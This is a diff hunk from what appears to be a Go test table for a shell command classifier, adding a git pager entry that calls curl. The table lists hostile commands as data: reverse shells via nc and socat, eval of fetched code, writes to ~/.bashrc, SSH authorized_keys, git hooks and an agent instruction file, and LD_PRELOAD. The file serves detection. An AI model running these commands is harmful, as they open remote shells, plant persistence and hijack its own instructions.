@@ -77,7 +77,7 @@ var classes = map[shell.Class][]string{
 		"eval \"$(curl x)\"",
 		"echo x >> ~/.bashrc", "cp x ~/.ssh/authorized_keys", "echo x > .git/hooks/pre-commit",
 		"echo x > .vscode/tasks.json",
-		"echo x > CLAUDE.md", "git config core.pager x", "git -c core.pager=x log", "PATH=. ls",
+		"echo x > CLAUDE.md", "git config core.pager x", "git -c core.pager=x log", "git -c core.pager='curl a.example' log", "PATH=. ls",
 		"export LD_PRELOAD=x",
 		"rg --pre x y", "tar --to-command=x -xf y", "awk 'BEGIN{system(\"id\")}'", "nc -e sh h 1",
 		"socat TCP:h:1 EXEC:sh",
